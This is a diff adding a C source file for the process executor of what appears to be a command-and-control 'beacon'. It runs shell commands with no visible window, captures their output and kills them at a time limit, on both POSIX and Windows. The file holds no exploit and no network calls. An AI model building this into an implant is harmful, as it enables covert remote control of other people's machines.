@@ -0,0 +1,404 @@
+/*
+ * Ghost Protocol Beacon - Process Executor Implementation
+ * Spawns the shell without forking the beacon, drains stdout and stderr together and
+ * kills the command's whole process tree at the time limit
+ */
+
+// pipe2 is a GNU extension in glibc
+#define _GNU_SOURCE
+
+#include "executor.h"
+#include "poll_schedule.h"
+#include "thread_sync.h"
+
+#include <limits.h>
+
+#ifndef _WIN32
+
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <signal.h>
+#include <spawn.h>
+#include <sys/wait.h>
+
+#define PROCESS_REAP_FIRST_US 20      // first wait between exit checks once the pipes have closed
+#define PROCESS_REAP_MAX_US 10000     // doubled up to this for a child that lingers
+
+extern char** environ;
+
+#if defined(__linux__) || defined(__FreeBSD__) || defined(__NetBSD__) || defined(__OpenBSD__)
+#define PROCESS_HAVE_PIPE2
+#endif
+
+#ifndef PROCESS_HAVE_PIPE2
+// Without pipe2 a new pipe is inheritable until fcntl marks it, so pipe creation and the
+// spawn are serialised; the executor is the only place the beacon starts a child
+static sync_mutex_t g_spawn_lock = PTHREAD_MUTEX_INITIALIZER;
+#endif
+
+static void spawn_lock(void) {
+#ifndef PROCESS_HAVE_PIPE2
+    sync_lock(&g_spawn_lock);
+#endif
+}
+
+static void spawn_unlock(void) {
+#ifndef PROCESS_HAVE_PIPE2
+    sync_unlock(&g_spawn_lock);
+#endif
+}
+
+// Both ends are close-on-exec before a shell on another worker thread can be spawned with
+// them; this command's own copies on 1 and 2 come from dup2 and stay open
+static int open_pipe(int fds[2]) {
+#ifdef PROCESS_HAVE_PIPE2
+    if (pipe2(fds, O_CLOEXEC) != 0) {
+        fds[0] = fds[1] = -1;
+        return -1;
+    }
+#else
+    if (pipe(fds) != 0) {
+        fds[0] = fds[1] = -1;
+        return -1;
+    }
+    fcntl(fds[0], F_SETFD, FD_CLOEXEC);
+    fcntl(fds[1], F_SETFD, FD_CLOEXEC);
+#endif
+    fcntl(fds[0], F_SETFL, fcntl(fds[0], F_GETFL) | O_NONBLOCK);
+    return 0;
+}
+
+static void close_fd(int* fd) {
+    if (*fd >= 0) {
+        close(*fd);
+        *fd = -1;
+    }
+}
+
+// posix_spawn avoids copying the beacon's page tables, which popen's fork pays for
+static pid_t spawn_shell(const char* command, int out_fd, int err_fd) {
+    posix_spawn_file_actions_t actions;
+    posix_spawnattr_t attr;
+    sigset_t mask;
+    sigset_t defaults;
+    pid_t pid = -1;
+    char* argv[] = { "sh", "-c", (char*)command, NULL };
+    
+    if (posix_spawn_file_actions_init(&actions) != 0) {
+        return -1;
+    }
+    if (posix_spawnattr_init(&attr) != 0) {
+        posix_spawn_file_actions_destroy(&actions);
+        return -1;
+    }
+    
+    posix_spawn_file_actions_addopen(&actions, STDIN_FILENO, "/dev/null", O_RDONLY, 0);
+    posix_spawn_file_actions_adddup2(&actions, out_fd, STDOUT_FILENO);
+    posix_spawn_file_actions_adddup2(&actions, err_fd, STDERR_FILENO);
+    
+    // A group of its own lets the time limit take background jobs down too; the mask and
+    // SIGPIPE are reset in case the spawning thread was holding SIGPIPE off
+    sigemptyset(&mask);
+    sigemptyset(&defaults);
+    sigaddset(&defaults, SIGPIPE);
+    posix_spawnattr_setsigmask(&attr, &mask);
+    posix_spawnattr_setsigdefault(&attr, &defaults);
+    posix_spawnattr_setpgroup(&attr, 0);
+    posix_spawnattr_setflags(&attr, POSIX_SPAWN_SETSIGMASK | POSIX_SPAWN_SETSIGDEF | POSIX_SPAWN_SETPGROUP);
+    
+    if (posix_spawn(&pid, "/bin/sh", &actions, &attr, argv, environ) != 0) {
+        pid = -1;
+    }
+    posix_spawnattr_destroy(&attr);
+    posix_spawn_file_actions_destroy(&actions);
+    return pid;
+}
+
+// The shell is not reaped until after the kill, so its pid still names the group even
+// when only background jobs are left holding the pipes
+static int kill_group(pid_t pid) {
+    int status;
+    kill(-pid, SIGKILL);
+    while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {
+    }
+    return PROCESS_TIMED_OUT;
+}
+
+// Waits for the shell to exit, killing its group once the deadline passes. A child
+// usually exits microseconds after its pipes close, so the checks start close together
+static int reap(pid_t pid, long long deadline) {
+    struct timespec delay = { 0, PROCESS_REAP_FIRST_US * 1000L };
+    int status;
+    
+    for (;;) {
+        pid_t done = waitpid(pid, &status, WNOHANG);
+        if (done == pid) {
+            break;
+        }
+        if (done < 0 && errno != EINTR) {
+            return PROCESS_SIGNALED;
+        }
+        if (monotonic_ms() >= deadline) {
+            return kill_group(pid);
+        }
+        nanosleep(&delay, NULL);
+        if (delay.tv_nsec < PROCESS_REAP_MAX_US * 1000L) {
+            delay.tv_nsec *= 2;
+        }
+    }
+    return WIFEXITED(status) ? WEXITSTATUS(status) : PROCESS_SIGNALED;
+}
+
+// Returns the exit code, or one of the PROCESS_* results
+int process_run(const char* command, int time_limit_ms, process_sink_t sink, void* context) {
+    int out[2];
+    int err[2];
+    
+    spawn_lock();
+    if (open_pipe(out) != 0 || open_pipe(err) != 0) {
+        spawn_unlock();
+        close_fd(&out[0]);
+        close_fd(&out[1]);
+        return PROCESS_FAILED;
+    }
+    
+    pid_t pid = spawn_shell(command, out[1], err[1]);
+    spawn_unlock();
+    close_fd(&out[1]);
+    close_fd(&err[1]);
+    if (pid < 0) {
+        close_fd(&out[0]);
+        close_fd(&err[0]);
+        return PROCESS_FAILED;
+    }
+    
+    long long deadline = monotonic_ms() + time_limit_ms;
+    struct pollfd fds[2] = { { out[0], POLLIN, 0 }, { err[0], POLLIN, 0 } };
+    int open_pipes = 2;
+    char buffer[PROCESS_READ_BLOCK];
+    
+    // poll() skips the negative descriptor of a stream that has already closed
+    while (open_pipes > 0) {
+        long long left = deadline - monotonic_ms();
+        if (left <= 0) {
+            close_fd(&fds[0].fd);
+            close_fd(&fds[1].fd);
+            return kill_group(pid);
+        }
+        if (poll(fds, 2, (int)left) < 0 && errno != EINTR) {
+            break;
+        }
+        
+        for (int i = 0; i < 2 && open_pipes > 0; i++) {
+            if (fds[i].fd < 0 || fds[i].revents == 0) {
+                continue;
+            }
+            
+            ssize_t bytes_read = read(fds[i].fd, buffer, sizeof(buffer));
+            if (bytes_read > 0) {
+                if (sink(context, buffer, (size_t)bytes_read) != 0) {
+                    open_pipes = 0;
+                }
+            } else if (bytes_read == 0 || (errno != EAGAIN && errno != EINTR)) {
+                close_fd(&fds[i].fd);
+                open_pipes--;
+            }
+        }
+    }
+    
+    close_fd(&fds[0].fd);
+    close_fd(&fds[1].fd);
+    return reap(pid, deadline);
+}
+
+#else
+
+static volatile long g_pipe_serial = 0;
+
+typedef struct {
+    HANDLE pipe;
+    OVERLAPPED overlapped;
+    int pending;
+    char* buffer;
+} process_stream_t;
+
+// Anonymous pipes cannot be read overlapped, so each stream is a uniquely named pipe
+// whose write end the child inherits
+static int open_stream(process_stream_t* stream, HANDLE* child_end) {
+    char name[64];
+    SECURITY_ATTRIBUTES inherit = { sizeof(SECURITY_ATTRIBUTES), NULL, TRUE };
+    
+    memset(stream, 0, sizeof(process_stream_t));
+    *child_end = INVALID_HANDLE_VALUE;
+    snprintf(name, sizeof(name), "\\\\.\\pipe\\ghost-%lu-%ld",
+             (unsigned long)GetCurrentProcessId(), (long)sync_fetch_add(&g_pipe_serial, 1));
+    
+    stream->pipe = CreateNamedPipeA(name, PIPE_ACCESS_INBOUND | FILE_FLAG_OVERLAPPED | FILE_FLAG_FIRST_PIPE_INSTANCE,
+                                    PIPE_TYPE_BYTE | PIPE_WAIT, 1, 0, PROCESS_READ_BLOCK, 0, NULL);
+    if (stream->pipe == INVALID_HANDLE_VALUE) {
+        stream->pipe = NULL;
+        return -1;
+    }
+    *child_end = CreateFileA(name, GENERIC_WRITE, 0, &inherit, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, NULL);
+    stream->overlapped.hEvent = CreateEventA(NULL, TRUE, FALSE, NULL);
+    stream->buffer = malloc(PROCESS_READ_BLOCK);
+    return (*child_end != INVALID_HANDLE_VALUE && stream->overlapped.hEvent && stream->buffer) ? 0 : -1;
+}
+
+// Cancels any read in flight: the buffer must outlive it
+static void close_stream(process_stream_t* stream) {
+    if (stream->pending) {
+        DWORD ignored;
+        CancelIo(stream->pipe);
+        GetOverlappedResult(stream->pipe, &stream->overlapped, &ignored, TRUE);
+        stream->pending = 0;
+    }
+    if (stream->pipe) {
+        CloseHandle(stream->pipe);
+        stream->pipe = NULL;
+    }
+    if (stream->overlapped.hEvent) {
+        CloseHandle(stream->overlapped.hEvent);
+        stream->overlapped.hEvent = NULL;
+    }
+    free(stream->buffer);
+    stream->buffer = NULL;
+}
+
+// 0 with a read in flight, -1 once the child has closed its end
+static int start_read(process_stream_t* stream) {
+    if (!ReadFile(stream->pipe, stream->buffer, PROCESS_READ_BLOCK, NULL, &stream->overlapped) &&
+        GetLastError() != ERROR_IO_PENDING) {
+        return -1;
+    }
+    stream->pending = 1;
+    return 0;
+}
+
+static void close_handle(HANDLE handle) {
+    if (handle && handle != INVALID_HANDLE_VALUE) {
+        CloseHandle(handle);
+    }
+}
+
+// Started suspended and put in a job first, so the time limit takes its children down too
+static int spawn_shell(const char* command, HANDLE out_end, HANDLE err_end, HANDLE job, HANDLE* process) {
+    SECURITY_ATTRIBUTES inherit = { sizeof(SECURITY_ATTRIBUTES), NULL, TRUE };
+    STARTUPINFOA startup;
+    PROCESS_INFORMATION info;
+    size_t length = strlen(command) + sizeof("cmd.exe /c ");
+    char* command_line = malloc(length);
+    
+    if (!command_line) {
+        return -1;
+    }
+    snprintf(command_line, length, "cmd.exe /c %s", command);
+    
+    memset(&startup, 0, sizeof(startup));
+    startup.cb = sizeof(startup);
+    startup.dwFlags = STARTF_USESTDHANDLES;
+    startup.hStdInput = CreateFileA("NUL", GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, &inherit,
+                                    OPEN_EXISTING, 0, NULL);
+    startup.hStdOutput = out_end;
+    startup.hStdError = err_end;
+    
+    BOOL started = CreateProcessA(NULL, command_line, NULL, NULL, TRUE, CREATE_NO_WINDOW | CREATE_SUSPENDED,
+                                  NULL, NULL, &startup, &info);
+    close_handle(startup.hStdInput);
+    free(command_line);
+    if (!started) {
+        return -1;
+    }
+    
+    AssignProcessToJobObject(job, info.hProcess);
+    ResumeThread(info.hThread);
+    CloseHandle(info.hThread);
+    *process = info.hProcess;
+    return 0;
+}
+
+// Returns the exit code, or one of the PROCESS_* results
+int process_run(const char* command, int time_limit_ms, process_sink_t sink, void* context) {
+    process_stream_t streams[2];
+    HANDLE out_end;
+    HANDLE err_end;
+    HANDLE process = NULL;
+    HANDLE job = CreateJobObjectA(NULL, NULL);
+    
+    int opened = open_stream(&streams[0], &out_end) == 0;
+    opened = open_stream(&streams[1], &err_end) == 0 && opened;
+    int spawned = job && opened && spawn_shell(command, out_end, err_end, job, &process) == 0;
+    close_handle(out_end);
+    close_handle(err_end);
+    if (!spawned) {
+        close_stream(&streams[0]);
+        close_stream(&streams[1]);
+        close_handle(job);
+        return PROCESS_FAILED;
+    }
+    
+    long long deadline = monotonic_ms() + time_limit_ms;
+    for (int i = 0; i < 2; i++) {
+        if (start_read(&streams[i]) != 0) {
+            close_stream(&streams[i]);
+        }
+    }
+    
+    for (;;) {
+        HANDLE events[2];
+        process_stream_t* waiting[2];
+        DWORD count = 0;
+        for (int i = 0; i < 2; i++) {
+            if (streams[i].pending) {
+                events[count] = streams[i].overlapped.hEvent;
+                waiting[count++] = &streams[i];
+            }
+        }
+        
+        long long left = deadline - monotonic_ms();
+        if (count == 0 || left <= 0) {
+            break;
+        }
+        DWORD signaled = WaitForMultipleObjects(count, events, FALSE, (DWORD)left);
+        if (signaled >= WAIT_OBJECT_0 + count) {
+            break;
+        }
+        
+        process_stream_t* stream = waiting[signaled - WAIT_OBJECT_0];
+        DWORD bytes_read = 0;
+        stream->pending = 0;
+        if (!GetOverlappedResult(stream->pipe, &stream->overlapped, &bytes_read, FALSE)) {
+            close_stream(stream);
+            continue;
+        }
+        if (bytes_read > 0 && sink(context, stream->buffer, bytes_read) != 0) {
+            break;
+        }
+        if (start_read(stream) != 0) {
+            close_stream(stream);
+        }
+    }
+    
+    close_stream(&streams[0]);
+    close_stream(&streams[1]);
+    
+    int result;
+    DWORD exit_code;
+    long long left = deadline - monotonic_ms();
+    if (WaitForSingleObject(process, left > 0 ? (DWORD)left : 0) != WAIT_OBJECT_0) {
+        TerminateJobObject(job, 1);
+        WaitForSingleObject(process, INFINITE);
+        result = PROCESS_TIMED_OUT;
+    } else if (GetExitCodeProcess(process, &exit_code) && exit_code <= INT_MAX) {
+        result = (int)exit_code;
+    } else {
+        result = PROCESS_SIGNALED;
+    }
+    
+    CloseHandle(process);
+    CloseHandle(job);
+    return result;
+}
+
+#endif